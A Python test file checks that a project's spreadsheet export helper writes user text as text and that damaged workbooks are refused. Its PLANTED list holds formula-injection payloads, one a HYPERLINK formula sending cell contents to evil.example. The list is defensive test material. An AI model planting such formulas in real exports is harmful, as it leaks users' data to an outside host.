"""Every export writes user text as text: no cell of a produced file is a formula."""

from __future__ import annotations

import io

import pytest
from openpyxl import Workbook, load_workbook

from minsheng.lib.xlsx import append_row, workbook_bytes

PLANTED = [
    '=HYPERLINK("http://evil.example/?"&D2&E2,"详情")',
    "+1-2",
    "-3+4",
    "@SUM(A1)",
    "\t=1+1",
    "\r=1+1",
    "=1+1",
]


def cells(content: bytes) -> list[tuple[object, str]]:
    book = load_workbook(io.BytesIO(content))
    return [(c.value, c.data_type) for sheet in book for row in sheet.iter_rows() for c in row]


def test_plain_openpyxl_would_have_written_a_formula() -> None:
    # The control: this is the behaviour the helper exists to prevent.
    book = Workbook()
    book.active.append(["=1+1"])  # type: ignore[union-attr]
    assert cells(workbook_bytes(book)) == [("=1+1", "f")]


@pytest.mark.parametrize("write_only", [True, False])
def test_strings_are_written_as_text_whatever_they_begin_with(write_only: bool) -> None:
    book = Workbook(write_only=write_only)
    sheet = book.create_sheet("x") if write_only else book.active
    append_row(sheet, [*PLANTED, 12, None])  # type: ignore[arg-type]
    append_row(sheet, ["控制字符\x01\x0b在这里"])  # type: ignore[arg-type]
    read = cells(workbook_bytes(book))
    assert all(kind != "f" for _value, kind in read)
    values = [value for value, _kind in read]
    # The text is kept as typed (the file format turns a carriage return into a line feed).
    assert [str(v).lstrip() for v in values[: len(PLANTED)]] == [v.lstrip() for v in PLANTED]
    assert 12 in values and "控制字符在这里" in values


def damaged(content: bytes) -> bytes:
    """The same workbook with its first sheet's XML cut in half: the zip opens, the sheet
    does not parse (read-only openpyxl finds out only while iterating the rows)."""
    import zipfile

    source = zipfile.ZipFile(io.BytesIO(content))
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as target:
        for item in source.infolist():
            data = source.read(item.filename)
            if item.filename == "xl/worksheets/sheet1.xml":
                data = data[: len(data) // 2]
            target.writestr(item, data)
    return out.getvalue()


def test_read_rows_reads_the_first_sheet_and_refuses_what_is_not_a_workbook() -> None:
    from minsheng.lib.xlsx import UnreadableWorkbook, read_rows

    book = Workbook()
    sheet = book.active
    assert sheet is not None
    for n in range(50):
        append_row(sheet, ["姓名", n, "x" * 40])
    content = workbook_bytes(book)
    rows = read_rows(content)
    assert len(rows) == 50 and rows[7] == ("姓名", 7, "x" * 40)
    for bad in (b"", b"not a zip", b"PK\x03\x04garbage", damaged(content)):
        with pytest.raises(UnreadableWorkbook):
            read_rows(bad)


def test_the_older_imports_name_a_damaged_sheet_unreadable() -> None:
    """The 意见建议 import and the village finance import read their sheets themselves."""
    from minsheng.governance.intake import read_rows as intake_rows
    from minsheng.tickets.errors import InvalidInput
    from minsheng.villages.services.finance import read_workbook

    book = Workbook()
    sheet = book.active
    assert sheet is not None
    for n in range(300):
        append_row(sheet, ["期初余额", n, "村（社区）", "意见建议内容", "x" * 30])
    content = damaged(workbook_bytes(book))
    for reader in (intake_rows, read_workbook):
        with pytest.raises(InvalidInput):
            reader(content)
